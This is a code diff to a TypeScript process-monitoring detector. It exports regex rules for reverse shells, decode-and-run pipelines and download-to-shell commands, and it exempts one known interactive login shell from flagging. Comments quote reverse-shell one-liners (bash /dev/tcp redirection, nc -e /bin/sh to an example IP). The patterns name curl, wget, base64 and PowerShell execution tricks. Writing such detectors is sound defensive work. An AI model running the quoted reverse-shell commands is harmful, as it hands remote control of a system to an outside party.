@@ -57,7 +57,7 @@ interface Hit {
 
 // --- reverse-shell ----------------------------------------------------------------------------
 
-const REVERSE_SHELL_TEXT: Array<{ re: RegExp; why: string }> = [
+export const REVERSE_SHELL_TEXT: Array<{ re: RegExp; why: string }> = [
   // bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
   { re: /\/dev\/(tcp|udp)\/[^\s/]+\/\d+[\s\S]*(>&|<&|0>&1)|(>&|<>)\s*\/dev\/(tcp|udp)\//, why: "shell redirected to bash's /dev/tcp socket" },
   // nc -e /bin/sh 203.0.113.7 4444 ; ncat --exec "/bin/bash" ...
@@ -88,7 +88,7 @@ function reverseShellHit(p: ProcessEntry): Hit | undefined {
 
 // --- shell-execution --------------------------------------------------------------------------
 
-const DECODE_AND_RUN = new RegExp(
+export const DECODE_AND_RUN = new RegExp(
   `(base64\\s+(-d|--decode|-D)\\b|base32\\s+(-d|--decode)|openssl\\s+(enc\\s+)?(-d\\b|-a\\b|-base64|base64)|xxd\\s+-r|\\bgunzip\\b|\\bzcat\\b|\\brev\\b)[^;&]*\\|\\s*${RUNNER}`,
 );
 // eval "$(...)", sh -c "$(...)", bash <(...)
@@ -103,12 +103,18 @@ const ONE_LINER_RISK: Record<string, RegExp> = {
   powershell: /-enc|FromBase64String|Invoke-Expression|\biex\b/i,
 };
 
+/** The login shell the next-login phase itself starts (image/bin/next-login.cjs): interactive by design. */
+const LOGIN_SHELL_ARGV = ['/bin/bash', '-l', '-i', '+o', 'history', '-c', 'true'].join('\u0000');
+function isNextLoginShell(p: ProcessEntry): boolean {
+  return p.phase === 'next-login' && p.trigger !== undefined && p.argv.join('\u0000') === LOGIN_SHELL_ARGV;
+}
+
 function shellExecutionHit(p: ProcessEntry): Hit | undefined {
   const text = commandLine(p);
   if (DECODE_AND_RUN.test(text)) return { severity: 'high', why: 'decodes hidden content and pipes it into a shell or interpreter' };
   if (EVAL_SUBSTITUTION.test(text)) return { severity: 'high', why: 'evaluates the output of another command as code' };
   const prog = programName(p);
-  if (SHELL.test(prog) && p.argv.slice(1).some((a) => /^-[a-z]*i[a-z]*$/.test(a) && a !== '-c')) {
+  if (SHELL.test(prog) && p.argv.slice(1).some((a) => /^-[a-z]*i[a-z]*$/.test(a) && a !== '-c') && !isNextLoginShell(p)) {
     return { severity: 'high', why: 'started an interactive shell' };
   }
   if (SHELL.test(prog) && /\/dev\/(tcp|udp)\//.test(text)) return { severity: 'high', why: "uses bash's /dev/tcp network redirection" };
@@ -120,7 +126,7 @@ function shellExecutionHit(p: ProcessEntry): Hit | undefined {
 
 // --- downloader-execution ---------------------------------------------------------------------
 
-const PIPE_DOWNLOAD_TO_RUNNER = new RegExp(`\\b(curl|wget|fetch)\\b[^|;&]*\\|\\s*${RUNNER}`);
+export const PIPE_DOWNLOAD_TO_RUNNER = new RegExp(`\\b(curl|wget|fetch)\\b[^|;&]*\\|\\s*${RUNNER}`);
 const UPLOAD_FLAGS = /\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-data|--post-file|--body-data|--body-file)(\s|=)/;
 const ONE_LINER_FETCH: Record<string, RegExp> = {
   python: /urllib|urlopen|requests\.(get|post)|http\.client|socket\.|wget\./,
